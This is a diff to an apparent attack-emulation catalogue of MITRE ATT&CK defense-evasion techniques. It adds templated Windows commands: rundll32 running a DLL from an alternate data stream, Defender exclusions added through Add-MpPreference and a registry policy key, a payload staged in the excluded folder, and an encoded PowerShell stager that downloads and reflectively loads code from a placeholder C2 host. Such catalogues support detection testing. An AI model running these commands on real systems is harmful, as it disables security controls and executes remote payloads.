@@ -1,5 +1,8 @@
 import { t, v } from "../dsl";
 
+const EXCLUSIONS = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions";
+const POLICY_EXCLUSIONS = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions";
+
 /** Defense evasion, continued: alternate authentication, trust controls, impairing defenses, hiding. (continued) */
 export const defenseEvasion3B = [
   t("T1564.002", "Hidden users", "An account hidden from the logon screen via SpecialAccounts\\UserList.", [
@@ -70,11 +73,43 @@ export const defenseEvasion3B = [
       ],
       { shell: "ps" },
     ),
+    // LOLBAS: a DLL kept in a stream is run straight from it.
+    v("rundll32-ads", ['rundll32.exe "{{appdata}}\\desktop.ini:{{rand}}.dll",DllRegisterServer']),
     v("wmic-ads", ['wmic process call create "{{appdata}}\\desktop.ini:{{rand}}.exe"']),
   ]),
-  t("T1564.005", "Hidden file system", "A VHD mounted hidden with diskpart.", [
-    v("diskpart", ["diskpart /s {{tmp}}\\{{rand}}.txt"], { elevated: true }),
-  ]),
+  t(
+    "T1564.005",
+    "Hidden file system",
+    "A VHD created and attached without a drive letter, or an implant's private encrypted store.",
+    [
+      // diskpart script: create vdisk, attach vdisk, create partition, format, no assign.
+      v(
+        "diskpart",
+        [
+          {
+            cmd: "diskpart /s {{tmp}}\\{{rand}}.txt",
+            reads: ["{{tmp}}\\{{rand}}.txt"],
+            files: ["C:\\ProgramData\\{{name}}.vhdx"],
+          },
+        ],
+        { elevated: true },
+      ),
+      // Implants such as ComRAT keep modules and output in one encrypted blob file of their own.
+      v(
+        "implant-vfs",
+        [
+          {
+            cmd: "{{local}}\\Microsoft\\{{name}}\\{{name}}.exe",
+            parent: "@explorer",
+            keep: true,
+            files: ["{{local}}\\Microsoft\\{{name}}\\{{rand}}.dat"],
+            net: [["{{c2}}", 443]],
+          },
+        ],
+        { shell: "none" },
+      ),
+    ],
+  ),
   t("T1564.006", "Run virtual instance", "A headless VirtualBox VM running the payload (Ragnar Locker).", [
     v(
       "vboxmanage",
@@ -122,30 +157,83 @@ export const defenseEvasion3B = [
   t("T1564.011", "Ignore process interrupts", "nohup-like detachment: start /b with no console.", [
     v("start-b", ["cmd.exe /c start /b {{tmp}}\\{{rand}}.exe"]),
   ]),
-  t("T1564.012", "File/path exclusions", "Payload placed in a Defender-excluded path.", [
-    v(
-      "excluded-path",
-      [
-        { ps: "Get-MpPreference | Select -ExpandProperty ExclusionPath" },
+  t(
+    "T1564.012",
+    "File/path exclusions",
+    "A Defender exclusion added (Add-MpPreference, policy key) or found, and the payload staged in it.",
+    [
+      // Add-MpPreference asks the Defender service, which writes the exclusion; the implant then runs
+      // from the excluded folder and its shell commands start under it.
+      v(
+        "add-mppreference-public",
+        [
+          {
+            ps: "Add-MpPreference -ExclusionPath 'C:\\Users\\Public'",
+            then: [
+              {
+                id: "exc",
+                kind: "registry.value.set",
+                proc: "@msmpeng",
+                key: `${EXCLUSIONS}\\Paths`,
+                value: "C:\\Users\\Public",
+                data: "0",
+                type: "REG_DWORD",
+              },
+            ],
+          },
+          {
+            ps: "Copy-Item $env:TEMP\\{{rand}}.exe C:\\Users\\Public\\{{name}}.exe",
+            files: ["C:\\Users\\Public\\{{name}}.exe"],
+          },
+          { cmd: "C:\\Users\\Public\\{{name}}.exe", as: "imp", net: [["{{c2}}", 443]] },
+          { cmd: "C:\\Windows\\System32\\cmd.exe /C {{$shell}}", parent: "imp" },
+        ],
         {
-          cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.exe "C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"',
-          parent: "sh",
-          files: ["C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"],
+          shell: "ps",
+          elevated: true,
+          vars: { shell: "{{net localgroup administrators|nltest /dclist:|quser}}" },
         },
-      ],
-      { shell: "ps", elevated: true },
-    ),
-  ]),
+      ),
+      v(
+        "reg-policy-exclusion",
+        [
+          {
+            cmd: `reg add "${POLICY_EXCLUSIONS}\\Paths" /v C:\\ProgramData /t REG_DWORD /d 0 /f`,
+            reg: [[`${POLICY_EXCLUSIONS}\\Paths`, "C:\\ProgramData", "0", "REG_DWORD"]],
+          },
+          // copy is a cmd built-in: the shell writes the payload into the excluded folder itself.
+          { by: "sh", files: ["C:\\ProgramData\\{{name}}.exe"] },
+        ],
+        { elevated: true },
+      ),
+      v(
+        "excluded-path",
+        [
+          { ps: "Get-MpPreference | Select -ExpandProperty ExclusionPath" },
+          {
+            cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.exe "C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"',
+            parent: "sh",
+            files: ["C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"],
+          },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+    ],
+  ),
   t("T1620", "Reflective code loading", "Assembly.Load of downloaded bytes in PowerShell.", [
+    // A C2 stager persisted in a Run value (started by explorer at logon): encoded PowerShell pulls a
+    // base64 .NET payload and loads it from memory.
     v(
-      "assembly-load",
+      "encoded-stager",
       [
         {
-          ps: "$b = (New-Object Net.WebClient).DownloadData('https://{{c2}}/{{rand}}.bin'); [System.Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, @(,[string[]]@()))",
+          parent: "@explorer",
+          ps: "[Reflection.Assembly]::Load([Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('https://{{c2}}/{{rand}}'))).EntryPoint.Invoke($null, (, [string[]] @()))",
+          encode: true,
           net: [["{{c2}}", 443]],
         },
       ],
-      { shell: "ps" },
+      { shell: "none" },
     ),
     v("execute-assembly", [
       {
@@ -158,6 +246,16 @@ export const defenseEvasion3B = [
   ]),
   t("T1622", "Debugger evasion", "IsDebuggerPresent checks and debug-port queries by the payload.", [
     v("checks", [{ cmd: "{{tmp}}\\{{rand}}.exe", net: [["{{c2}}", 443]] }]),
+    // Atomic T1622: debugger processes and an attached managed debugger checked before going on.
+    v(
+      "ps-debugger-checks",
+      [
+        {
+          ps: "$d = Get-Process | Where-Object { $_.ProcessName -match 'dbg' -or $_.ProcessName -match 'debug' }; if ($d -or [System.Diagnostics.Debugger]::IsAttached) { exit }",
+        },
+      ],
+      { shell: "ps" },
+    ),
   ]),
   t(
     "T1656",
